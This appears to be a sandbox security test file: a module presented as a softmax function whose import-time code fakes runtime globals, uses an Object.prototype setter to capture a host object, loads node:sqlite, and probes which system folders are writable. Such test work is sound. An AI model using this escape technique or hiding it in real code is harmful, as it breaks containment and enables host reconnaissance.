// tries: learn which folders of the machine can be written by the errors of a pragma of sqlite | expect: import-threw
// @ts-nocheck
import { Matrix } from "../lib/mod.ts";
const fake = () => new Proxy(function () {}, { get: (_, k) => k === Symbol.toPrimitive ? () => "0" : fake(), apply: fake, construct: fake, has: () => true });
globalThis.Deno = fake();
globalThis.process = fake();
let real;
Reflect.defineProperty(Object.prototype, "_debugEnd", { __proto__: null, configurable: true, get() {}, set(v) { real ??= this; Reflect.defineProperty(this, "_debugEnd", { __proto__: null, value: v, writable: true, configurable: true }); } });
try { setTimeout(() => {}, 2 ** 40); } catch {}
delete Object.prototype._debugEnd;
const { DatabaseSync } = real.getBuiltinModule("node:sqlite"); const db = new DatabaseSync(":memory:"); const said = [];
for (const p of ["/home", "/usr/local/lib", "/var/lib", "/etc", "/nope"]) { try { db.exec(`PRAGMA temp_store_directory = '${p}'`); said.push(p + " yes"); } catch (e) { said.push(p + " no"); } }
console.log("LEAK:", said.join(", "));
export function softmax(x) {
  const out = new Matrix(x.rows, x.cols);
  for (let start = 0; start < out.data.length; start += x.cols) {
    let max = -Infinity, sum = 0;
    for (let k = start; k < start + x.cols; k++) max = x.data[k] > max ? x.data[k] : max;
    for (let k = start; k < start + x.cols; k++) sum += Math.exp(x.data[k] - max);
    for (let k = start; k < start + x.cols; k++) out.data[k] = Math.exp(x.data[k] - max) / sum;
  }
  return out;
}
